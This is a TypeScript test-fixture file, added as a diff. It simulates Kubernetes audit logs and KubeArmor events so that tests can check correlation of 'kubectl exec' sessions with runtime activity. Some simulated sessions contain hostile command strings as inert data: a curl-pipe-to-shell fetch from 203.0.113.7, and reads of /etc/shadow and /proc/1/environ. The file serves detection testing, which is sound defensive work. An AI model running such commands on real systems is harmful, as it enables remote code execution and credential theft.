@@ -1,0 +1,436 @@
+/**
+ * Labelled correlation scenarios: audit log lines (real audit.k8s.io/v1 events, as kube-apiserver writes
+ * them) + KubeArmor events (relay JSON lines, as `karmor logs --json` prints them) + the truth (which
+ * session, if any, caused each KubeArmor event).
+ *
+ * A `World` simulates nodes: processes get host PIDs, container PIDs, parents, TTYs and ExecIDs the way
+ * KubeArmor reports them (../shared/reference/kubearmor-feeder.md "interactive exec"): a `kubectl exec`
+ * root's parent is the host path of runc with PPID 0 (PPID = HostPPID before Sept 2023), children carry
+ * the shell as parent, ExecID is inherited, TTY only for -t sessions. Variants: the node clock off by
+ * some time, old KubeArmor fields (no ExecID, no TTY, PPID = HostPPID for roots).
+ */
+import { createHash } from 'node:crypto';
+
+export interface WorldOptions {
+  /** Added to every KubeArmor time: -1500 is a node clock 1.5 s behind the apiserver. */
+  nodeClockOffsetMs?: number;
+  /** KubeArmor before Sept 2023 / March 2025: no ExecEvent, no TTY, a root's PPID equals its HostPPID. */
+  oldKubeArmor?: boolean;
+}
+
+export interface Container {
+  node: string;
+  namespace: string;
+  pod: string;
+  name: string;
+  id: string;
+  image: string;
+}
+
+/** A process on a node. `truth` is the auditID of the session that caused it, or null. */
+export interface Proc {
+  container: Container;
+  hostPid: number;
+  pid: number;
+  exe: string;
+  tty?: string;
+  execId?: string;
+  truth: string | null;
+}
+
+export interface LabelledEvent {
+  event: Record<string, unknown>;
+  /** auditID of the session this event belongs to, or null when it belongs to none. */
+  truth: string | null;
+}
+
+const RUNC = '/usr/bin/runc';
+const SHIM = '/usr/bin/containerd-shim-runc-v2';
+
+/** `2025-10-21T09:00:00.000000Z` + offset in milliseconds (fractions allowed) → ISO with microseconds. */
+export function at(base: string, offsetMs: number): string {
+  const us = Date.parse(base) * 1000 + Math.round(offsetMs * 1000);
+  const ms = Math.floor(us / 1000);
+  return `${new Date(ms).toISOString().slice(0, 19)}.${String(us % 1_000_000).padStart(6, '0')}Z`;
+}
+
+export class World {
+  readonly audit: Record<string, unknown>[] = [];
+  readonly runtime: LabelledEvent[] = [];
+  private nextHostPid = new Map<string, number>();
+  private nextPid = new Map<string, number>();
+  private nextExecId = 824416229130000;
+
+  constructor(private readonly options: WorldOptions = {}) {}
+
+  container(node: string, namespace: string, pod: string, name: string): Container {
+    const id = createHash('sha256').update(`${node}/${namespace}/${pod}/${name}`).digest('hex');
+    return { node, namespace, pod, name, id, image: `docker.io/library/${name}:latest` };
+  }
+
+  private hostPid(node: string): number {
+    const next = (this.nextHostPid.get(node) ?? 310_000) + 7;
+    this.nextHostPid.set(node, next);
+    return next;
+  }
+
+  private containerPid(container: Container): number {
+    const next = (this.nextPid.get(container.id) ?? 40) + 1;
+    this.nextPid.set(container.id, next);
+    return next;
+  }
+
+  /** A long-running process that started before anything we see (the app's PID 1): no event of its own. */
+  existing(container: Container, exe: string, pid = 1): Proc {
+    return { container, hostPid: this.hostPid(container.node), pid, exe, truth: null };
+  }
+
+  /**
+   * runc starting a process in a container: `kubectl exec` (with tty for -t), an exec probe, or (for an
+   * ephemeral container, `init: true`) the container's own first process, whose parent is the shim.
+   */
+  runcExec(
+    container: Container,
+    time: string,
+    argv: string[],
+    options: { tty?: boolean; truth: string | null; init?: boolean },
+  ): Proc {
+    const runtimeHostPid = this.hostPid(container.node);
+    const proc: Proc = {
+      container,
+      hostPid: this.hostPid(container.node),
+      pid: options.init ? 1 : this.containerPid(container),
+      exe: argv[0]!,
+      tty: options.tty ? `pts${this.nextPid.get(container.id) ?? 0}` : undefined,
+      // setns by runc gives an exec (not a container's init) its ExecID.
+      execId: options.init ? undefined : String(this.nextExecId++),
+      truth: options.truth,
+    };
+    this.emitExec(proc, { hostPid: runtimeHostPid, pid: 0, exe: options.init ? SHIM : RUNC }, time, argv, true);
+    return proc;
+  }
+
+  /** A process forked and exec'd by `parent` (a command typed in a shell, a pipeline stage). */
+  spawn(parent: Proc, time: string, argv: string[], truth: string | null = parent.truth): Proc {
+    const proc: Proc = {
+      container: parent.container,
+      hostPid: this.hostPid(parent.container.node),
+      pid: this.containerPid(parent.container),
+      exe: argv[0]!,
+      tty: parent.tty,
+      execId: parent.execId,
+      truth,
+    };
+    this.emitExec(proc, parent, time, argv, false);
+    return proc;
+  }
+
+  private emitExec(proc: Proc, parent: { hostPid: number; pid: number; exe: string }, time: string, argv: string[], root: boolean): void {
+    const old = this.options.oldKubeArmor;
+    this.emit(proc, time, {
+      ParentProcessName: parent.exe,
+      HostPPID: parent.hostPid,
+      // Since Sept 2023 a parent outside the container is PPID 0; before, PPID was the host PID.
+      PPID: root ? (old ? parent.hostPid : 0) : parent.pid,
+      Type: 'ContainerLog',
+      Source: parent.exe,
+      Operation: 'Process',
+      Resource: [proc.exe, ...argv.slice(1)].join(' '),
+      Data: 'syscall=SYS_EXECVE',
+      Result: 'Passed',
+    });
+  }
+
+  file(proc: Proc, time: string, path: string, truth: string | null = proc.truth): void {
+    this.emit(
+      proc,
+      time,
+      { Type: 'ContainerLog', Source: proc.exe, Operation: 'File', Resource: path, Data: 'syscall=SYS_OPENAT fd=-100 flags=O_RDONLY', Result: 'Passed' },
+      truth,
+    );
+  }
+
+  network(proc: Proc, time: string, resource: string): void {
+    this.emit(proc, time, { Type: 'ContainerLog', Source: proc.exe, Operation: 'Network', Resource: resource, Data: 'kprobe=tcp_connect', Result: 'Passed' });
+  }
+
+  /** A BPF-LSM Block alert for an exec the shell tried: the enforcer puts the host parent PID in PPID. */
+  blockedExec(parent: Proc, time: string, argv: string[], policy: string, truth: string | null = parent.truth): void {
+    const child: Proc = { ...parent, hostPid: this.hostPid(parent.container.node), pid: this.containerPid(parent.container), exe: argv[0]!, truth };
+    this.emit(
+      child,
+      time,
+      {
+        ParentProcessName: parent.exe,
+        HostPPID: parent.hostPid,
+        PPID: parent.hostPid,
+        PolicyName: policy,
+        Severity: '5',
+        Type: 'MatchedPolicy',
+        Source: parent.exe,
+        Operation: 'Process',
+        Resource: argv.join(' '),
+        Data: 'lsm=SECURITY_BPRM_CHECK',
+        Enforcer: 'BPFLSM',
+        Action: 'Block',
+        Result: 'Permission denied',
+      },
+      truth,
+    );
+  }
+
+  private emit(proc: Proc, time: string, fields: Record<string, unknown>, truth: string | null = proc.truth): void {
+    const old = this.options.oldKubeArmor;
+    const shifted = at(time, this.options.nodeClockOffsetMs ?? 0);
+    const { container } = proc;
+    const event: Record<string, unknown> = {
+      Timestamp: Math.floor(Date.parse(shifted) / 1000),
+      UpdatedTime: shifted,
+      ClusterName: 'default',
+      HostName: container.node,
+      NamespaceName: container.namespace,
+      PodName: container.pod,
+      ContainerID: container.id,
+      ContainerName: container.name,
+      ContainerImage: container.image,
+      HostPID: proc.hostPid,
+      PID: proc.pid,
+      UID: 0,
+      ProcessName: proc.exe,
+      ...fields,
+    };
+    if (!old) {
+      event.Cwd = '/';
+      if (proc.tty) event.TTY = proc.tty;
+      event.ExecEvent = { ExecID: proc.execId ?? '0', ExecutableName: basename(proc.exe).slice(0, 15) };
+    }
+    this.runtime.push({ event, truth });
+  }
+
+  /** The audit stages of one pods/exec (WebSocket, as kubectl >= 1.30 sends it). */
+  podExec(options: {
+    auditId: string;
+    user: string;
+    namespace: string;
+    pod: string;
+    container: string;
+    command: string[];
+    tty?: boolean;
+    start: string;
+    end: string | null;
+    subresource?: 'exec' | 'attach';
+  }): void {
+    const query = new URLSearchParams();
+    for (const arg of options.subresource === 'attach' ? [] : options.command) query.append('command', arg);
+    query.set('container', options.container);
+    query.set('stdin', 'true');
+    query.set('stdout', 'true');
+    if (options.tty) query.set('tty', 'true');
+    else query.set('stderr', 'true');
+    const subresource = options.subresource ?? 'exec';
+    const uri = `/api/v1/namespaces/${options.namespace}/pods/${options.pod}/${subresource}?${query.toString()}`;
+    this.auditStages(options.auditId, options.user, uri, 'get', { resource: 'pods', namespace: options.namespace, name: options.pod, subresource }, options.start, options.end);
+  }
+
+  /** `GET /api/v1/nodes/NODE/proxy/exec/NS/POD/CONTAINER?command=...` (kubelet API through the apiserver). */
+  nodeProxyExec(options: { auditId: string; user: string; node: string; namespace: string; pod: string; container: string; command: string[]; start: string; end: string }): void {
+    const query = options.command.map((c) => `command=${encodeURIComponent(c)}`).join('&');
+    const uri = `/api/v1/nodes/${options.node}/proxy/exec/${options.namespace}/${options.pod}/${options.container}?${query}&output=1&error=1`;
+    this.auditStages(options.auditId, options.user, uri, 'get', { resource: 'nodes', name: options.node, subresource: 'proxy' }, options.start, options.end);
+  }
+
+  /** `kubectl debug -it --image busybox`: the ephemeralcontainers patch (Request level), then the attach. */
+  kubectlDebug(options: { patchAuditId: string; attachAuditId: string; user: string; namespace: string; pod: string; name: string; target: string; patchAt: string; attachAt: string; end: string }): void {
+    const uri = `/api/v1/namespaces/${options.namespace}/pods/${options.pod}/ephemeralcontainers`;
+    const ref = { resource: 'pods', namespace: options.namespace, name: options.pod, subresource: 'ephemeralcontainers' };
+    const requestObject = {
+      spec: {
+        ephemeralContainers: [
+          { image: 'busybox:1.36', name: options.name, resources: {}, stdin: true, targetContainerName: options.target, terminationMessagePolicy: 'File', tty: true },
+        ],
+      },
+    };
+    this.audit.push({
+      ...this.auditEvent(options.patchAuditId, options.user, uri, 'patch', ref, options.patchAt, at(options.patchAt, 40), 'ResponseComplete', 200),
+      level: 'Request',
+      requestObject,
+    });
+    this.podExec({
+      auditId: options.attachAuditId,
+      user: options.user,
+      namespace: options.namespace,
+      pod: options.pod,
+      container: options.name,
+      command: [],
+      tty: true,
+      start: options.attachAt,
+      end: options.end,
+      subresource: 'attach',
+    });
+  }
+
+  private auditStages(auditId: string, user: string, uri: string, verb: string, ref: Record<string, string>, start: string, end: string | null): void {
+    this.audit.push(this.auditEvent(auditId, user, uri, verb, ref, start, at(start, 30), 'ResponseStarted', 101));
+    if (end) this.audit.push(this.auditEvent(auditId, user, uri, verb, ref, start, end, 'ResponseComplete', 101));
+  }
+
+  private auditEvent(auditId: string, user: string, uri: string, verb: string, ref: Record<string, string>, start: string, stageTime: string, stage: string, code: number) {
+    return {
+      kind: 'Event',
+      apiVersion: 'audit.k8s.io/v1',
+      level: 'Metadata',
+      auditID: auditId,
+      stage,
+      requestURI: uri,
+      verb,
+      user: { username: user, groups: ['system:authenticated'] },
+      sourceIPs: ['192.0.2.10'],
+      userAgent: 'kubectl/v1.34.1 (linux/amd64) kubernetes/93248f9',
+      objectRef: { ...ref, apiVersion: 'v1' },
+      responseStatus: { metadata: {}, code },
+      requestReceivedTimestamp: start,
+      stageTimestamp: stageTime,
+      annotations: { 'authorization.k8s.io/decision': 'allow', 'authorization.k8s.io/reason': 'RBAC: allowed' },
+    };
+  }
+
+  /** The audit log as JSON lines. */
+  auditLines(): string[] {
+    return this.audit.map((e) => JSON.stringify(e));
+  }
+
+  /** KubeArmor JSON lines with their truth. */
+  runtimeLines(): { line: string; truth: string | null }[] {
+    return this.runtime.map(({ event, truth }) => ({ line: JSON.stringify(event), truth }));
+  }
+}
+
+const basename = (path: string) => path.slice(path.lastIndexOf('/') + 1);
+
+/** Fisher-Yates with a seeded generator, so a failing order can be replayed. */
+export function shuffled<T>(items: readonly T[], seed: number): T[] {
+  const out = [...items];
+  let state = seed >>> 0 || 1;
+  const random = () => {
+    state ^= state << 13;
+    state ^= state >>> 17;
+    state ^= state << 5;
+    return (state >>> 0) / 2 ** 32;
+  };
+  for (let i = out.length - 1; i > 0; i--) {
+    const j = Math.floor(random() * (i + 1));
+    [out[i], out[j]] = [out[j]!, out[i]!];
+  }
+  return out;
+}
+
+/**
+ * Acceptance scenario 1 (and, with options, 3 and 4): two sessions overlapping in one container, an exec
+ * probe inside both windows, and the application's own child processes.
+ */
+export function overlappingSessions(world: World, options: { namespace?: string; userA?: string; userB?: string; ids?: [string, string] } = {}) {
+  const ns = options.namespace ?? 'shop';
+  const web = world.container('worker-1', ns, 'web-0', 'web');
+  const t0 = '2025-10-21T09:00:00.000000Z';
+  const [A, B] = options.ids ?? ['aaaaaaaa-0000-4000-8000-00000000000a', 'bbbbbbbb-0000-4000-8000-00000000000b'];
+
+  // The app: nginx's master started long ago; its workers run a log rotation script now and then.
+  const nginx = world.existing(web, '/usr/sbin/nginx');
+  world.file(nginx, at(t0, 500), '/etc/nginx/nginx.conf');
+  for (const offset of [20_000, 95_000]) {
+    const rotate = world.spawn(nginx, at(t0, offset), ['/bin/sh', '-c', '/usr/local/bin/rotate-logs /var/log/nginx'], null);
+    const script = world.spawn(rotate, at(t0, offset + 3), ['/usr/local/bin/rotate-logs', '/var/log/nginx']);
+    const gzip = world.spawn(script, at(t0, offset + 9), ['/bin/gzip', '/var/log/nginx/access.log.1']);
+    world.file(gzip, at(t0, offset + 10), '/var/log/nginx/access.log.1');
+  }
+
+  // Session A: alice, `kubectl exec -it web-0 -- bash`, 09:00:00.1 to 09:03:00.
+  world.podExec({ auditId: A, user: options.userA ?? 'alice@example.com', namespace: ns, pod: 'web-0', container: 'web', command: ['bash'], tty: true, start: at(t0, 100), end: at(t0, 180_000) });
+  const bash = world.runcExec(web, at(t0, 142), ['/usr/bin/bash'], { tty: true, truth: A });
+  world.file(bash, at(t0, 150), '/root/.bashrc');
+  const ls = world.spawn(bash, at(t0, 5_000), ['/bin/ls', '-la', '/app']);
+  world.file(ls, at(t0, 5_001), '/app');
+  // A nested pipeline: sh -c "cat /etc/passwd | grep root | wc -l"
+  const pipe = world.spawn(bash, at(t0, 12_000), ['/bin/sh', '-c', 'cat /etc/passwd | grep root | wc -l']);
+  const cat = world.spawn(pipe, at(t0, 12_002), ['/bin/cat', '/etc/passwd']);
+  world.file(cat, at(t0, 12_003), '/etc/passwd');
+  world.spawn(pipe, at(t0, 12_002.5), ['/bin/grep', 'root']);
+  world.spawn(pipe, at(t0, 12_003), ['/usr/bin/wc', '-l']);
+  // Deeper: sh -c "sh -c 'curl -s http://203.0.113.7/x.sh | sh'"
+  const outer = world.spawn(bash, at(t0, 40_000), ['/bin/sh', '-c', "sh -c 'curl -s http://203.0.113.7/x.sh | sh'"]);
+  const inner = world.spawn(outer, at(t0, 40_001), ['/bin/sh', '-c', 'curl -s http://203.0.113.7/x.sh | sh']);
+  const curl = world.spawn(inner, at(t0, 40_002), ['/usr/bin/curl', '-s', 'http://203.0.113.7/x.sh']);
+  world.network(curl, at(t0, 40_010), 'remoteip=203.0.113.7 port=80 protocol=TCP');
+  const piped = world.spawn(inner, at(t0, 40_002), ['/bin/sh']);
+  const id = world.spawn(piped, at(t0, 40_300), ['/usr/bin/id']);
+  world.file(id, at(t0, 40_301), '/etc/group');
+  world.blockedExec(bash, at(t0, 70_000), ['/usr/bin/apt', 'update'], 'block-pkg-mgmt-tools-exec');
+
+  // Session B: bob, a non-interactive `kubectl exec web-0 -- sh -c "tar ... && ls /tmp"` inside A's window.
+  const tarCommand = 'tar czf /tmp/config.tgz /app/config && ls /tmp';
+  world.podExec({ auditId: B, user: options.userB ?? 'bob@example.com', namespace: ns, pod: 'web-0', container: 'web', command: ['sh', '-c', tarCommand], start: at(t0, 60_000), end: at(t0, 63_000) });
+  const sh = world.runcExec(web, at(t0, 60_040), ['/bin/sh', '-c', tarCommand], { truth: B });
+  const tar = world.spawn(sh, at(t0, 60_045), ['/bin/tar', 'czf', '/tmp/config.tgz', '/app/config']);
+  world.file(tar, at(t0, 60_046), '/app/config/settings.yaml');
+  world.spawn(tar, at(t0, 60_047), ['/bin/gzip', '-f']);
+  world.spawn(sh, at(t0, 61_500), ['/bin/ls', '/tmp']);
+
+  // An exec liveness probe every 10 s, inside both windows; one fires right at B's start with a similar command.
+  for (let offset = 2_000; offset < 190_000; offset += 10_000) {
+    const probe = world.runcExec(web, at(t0, offset), ['/bin/sh', '-c', 'cat /tmp/healthy'], { truth: null });
+    const probeCat = world.spawn(probe, at(t0, offset + 2), ['/bin/cat', '/tmp/healthy']);
+    world.file(probeCat, at(t0, offset + 3), '/tmp/healthy');
+  }
+  const decoy = world.runcExec(web, at(t0, 60_020), ['/bin/sh', '-c', 'ls /tmp'], { truth: null });
+  world.spawn(decoy, at(t0, 60_022), ['/bin/ls', '/tmp']);
+
+  return { A, B, t0 };
+}
+
+/** Acceptance 5: a nodes/proxy exec into one container and a `kubectl debug` attach next to it. */
+export function nodeProxyAndDebug(world: World) {
+  const t0 = '2025-10-21T11:00:00.000000Z';
+  const N = 'cccccccc-0000-4000-8000-00000000000c';
+  const P = 'dddddddd-0000-4000-8000-00000000000d';
+  const D = 'eeeeeeee-0000-4000-8000-00000000000e';
+  const api = world.container('worker-2', 'prod', 'api-0', 'api');
+  const sidecar = world.container('worker-2', 'prod', 'api-0', 'envoy');
+  const debugger_ = world.container('worker-2', 'prod', 'api-0', 'debugger-8xk2p');
+
+  // The app keeps running in both containers.
+  const app = world.existing(api, '/app/server');
+  world.spawn(app, at(t0, 1_000), ['/bin/sh', '-c', 'date'], null);
+  const envoy = world.existing(sidecar, '/usr/local/bin/envoy');
+  world.file(envoy, at(t0, 1_500), '/etc/envoy/envoy.yaml');
+
+  // A service account execs through the kubelet API: GET nodes/worker-2/proxy/exec/prod/api-0/api?command=sh&command=-c&command=id
+  world.nodeProxyExec({ auditId: N, user: 'system:serviceaccount:monitoring:metrics-reader', node: 'worker-2', namespace: 'prod', pod: 'api-0', container: 'api', command: ['sh', '-c', 'id; cat /etc/shadow'], start: at(t0, 2_000), end: at(t0, 2_600) });
+  const sh = world.runcExec(api, at(t0, 2_031), ['/bin/sh', '-c', 'id; cat /etc/shadow'], { truth: N });
+  world.spawn(sh, at(t0, 2_033), ['/usr/bin/id']);
+  const shadow = world.spawn(sh, at(t0, 2_036), ['/bin/cat', '/etc/shadow']);
+  world.file(shadow, at(t0, 2_037), '/etc/shadow');
+
+  // carol runs `kubectl debug -it api-0 --image busybox --target api`: patch, then attach 2.7 s later.
+  world.kubectlDebug({ patchAuditId: P, attachAuditId: D, user: 'carol@example.com', namespace: 'prod', pod: 'api-0', name: 'debugger-8xk2p', target: 'api', patchAt: at(t0, 10_000), attachAt: at(t0, 12_700), end: at(t0, 90_000) });
+  const shell = world.runcExec(debugger_, at(t0, 11_900), ['/bin/sh'], { tty: true, truth: D, init: true });
+  const ps = world.spawn(shell, at(t0, 20_000), ['/bin/ps', 'aux']);
+  world.file(ps, at(t0, 20_001), '/proc/1/cmdline');
+  const environ = world.spawn(shell, at(t0, 30_000), ['/bin/cat', '/proc/1/environ']);
+  world.file(environ, at(t0, 30_001), '/proc/1/environ');
+  // Meanwhile the envoy sidecar reloads: not carol's.
+  world.spawn(envoy, at(t0, 25_000), ['/bin/sh', '-c', 'kill -HUP 1'], null);
+
+  return { N, P, D, t0 };
+}
+
+/** Acceptance 2: the same pod name in two namespaces, same node, same time. */
+export function samePodTwoNamespaces(world: World) {
+  const first = overlappingSessions(world, { namespace: 'shop' });
+  const second = overlappingSessions(world, {
+    namespace: 'staging',
+    userA: 'dave@example.com',
+    userB: 'erin@example.com',
+    ids: ['aaaaaaaa-1111-4000-8000-00000000000a', 'bbbbbbbb-1111-4000-8000-00000000000b'],
+  });
+  return { first, second };
+}
